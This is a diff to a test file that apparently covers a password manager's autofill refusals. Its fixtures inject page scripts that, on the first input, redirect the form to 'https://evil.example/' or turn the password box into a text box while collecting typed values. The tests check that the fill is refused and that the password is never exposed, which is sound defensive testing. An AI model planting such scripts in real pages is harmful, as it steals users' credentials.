@@ -85,19 +85,30 @@ describe('a fill is refused', () => {
     expect(await content.fill({ origin: 'http://127.0.0.1' })).toMatchObject({ refused: 'wrong-page' })
   })
 
-  test('when the page changes where the form sends in answer to the first input', async () => {
-    const turned = `<script>addEventListener('input', () => { document.forms[0].action = 'https://evil.example/' })</script>`
-    const content = await stage.open({ markup: form() + turned })
-    expect(await content.fill()).toMatchObject({ done: false, refused: 'form-goes-elsewhere' })
-    expect(await values(content)).toEqual(['', ''])
-  })
-
-  test('when the page turns the password box into a text box in answer to the first input', async () => {
-    const turned = `<script>addEventListener('input', () => { document.querySelectorAll('input')[1].type = 'text' })</script>`
-    const content = await stage.open({ markup: form() + turned })
-    expect(await content.fill()).toMatchObject({ done: false, refused: 'no-form' })
-    expect(await values(content)).toEqual(['', ''])
-  })
+  test.each([
+    [
+      'changes where the form sends',
+      `document.forms[0].action = 'https://evil.example/'`,
+      'form-goes-elsewhere',
+    ],
+    [
+      'turns the password box into a text box',
+      `document.querySelectorAll('input')[1].type = 'text'`,
+      'no-form',
+    ],
+  ])(
+    'before the page sees the password, when it %s in answer to the first input',
+    async (_, script, refused) => {
+      const turned = `<script>
+      var seen = ''
+      addEventListener('input', () => { seen += document.querySelectorAll('input')[1].value; ${script} })
+    </script>`
+      const content = await stage.open({ markup: form() + turned })
+      expect(await content.fill()).toMatchObject({ done: false, refused })
+      expect(await values(content)).toEqual(['', ''])
+      expect(await content.page.evaluate('seen')).toBe('')
+    },
+  )
 
   test('but not for nameless boxes of a form that only a script can take', async () => {
     const nameless = '<form><input id=username><input type=password id=pass><button>Log in</button></form>'
